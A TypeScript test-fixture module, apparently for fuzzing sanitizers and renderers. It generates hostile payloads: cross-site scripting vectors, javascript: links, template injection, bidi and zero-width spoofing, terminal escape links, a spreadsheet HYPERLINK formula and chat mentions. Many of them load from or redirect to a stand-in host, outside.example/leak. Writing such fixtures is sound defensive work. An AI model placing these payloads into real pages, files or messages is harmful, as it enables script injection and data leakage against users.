/** Runs where it is taken for code, and tells the outside where it is taken for an address. */
const HIT = 'window.__hit=1';
const OUTSIDE = 'https://outside.example/leak';

const TEMPLATES: readonly ((n: number) => string)[] = [
  (n) => `<script>${HIT};/*${n}*/</script>`,
  (n) => `<img src=x onerror="${HIT}" id=a${n}>`,
  (n) => `<img src="${OUTSIDE}?${n}">`,
  (n) => `<svg onload="${HIT}"><animate onbegin="${HIT}" attributeName=x dur=1s id=b${n}></svg>`,
  (n) => `<svg><use href="${OUTSIDE}.svg#${n}"/></svg>`,
  (n) => `<iframe srcdoc="<script>parent.${HIT}</script>" name=f${n}></iframe>`,
  (n) => `<a href="javascript:${HIT}">link ${n}</a>`,
  (n) => `[link ${n}](javascript:${HIT})`,
  (n) => `![image ${n}](${OUTSIDE}/${n}.png)`,
  (n) => `javascript:${HIT}//${n}`,
  (n) => `<style>@import "${OUTSIDE}.css?${n}";*{display:none}</style>`,
  (n) => `<link rel=stylesheet href="${OUTSIDE}?${n}"><base href="${OUTSIDE}">`,
  (n) => `<form action="${OUTSIDE}"><button autofocus onfocus="${HIT}">${n}</button></form>`,
  (n) => `"><script src="${OUTSIDE}/${n}.js"></script>`,
  (n) => `' onmouseover='${HIT}' x='${n}`,
  (n) => `<details open ontoggle="${HIT}">${n}</details>`,
  (n) => `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${HIT}>${n}">`,
  (n) => `{{constructor.constructor('${HIT}')()}} \${${HIT}} ${n}`,
  (n) => `<object data="${OUTSIDE}?${n}"></object><embed src="${OUTSIDE}">`,
  (n) => `<meta http-equiv="refresh" content="0;url=${OUTSIDE}?${n}">`,
  (n) => `user\u202egnp.exe ${n}\u2066hidden\u2069`,
  (n) => `zero\u200bwidth\u2060join ${n}`,
  (n) => `\u001b[2J\u001b]8;;${OUTSIDE}\u0007click ${n}\u001b]8;;\u0007`,
  (n) => `=HYPERLINK("${OUTSIDE}?${n}","click")`,
  (n) => `<!channel> <${OUTSIDE}|click ${n}> @here`,
];

/** `count` payloads: markup, SVG, links that run, bidi, terminals, sheets and chats, each one of its own. */
export function hostilePayloads(count: number): string[] {
  return Array.from({ length: count }, (_, n) => (TEMPLATES[n % TEMPLATES.length] ?? String)(n));
}
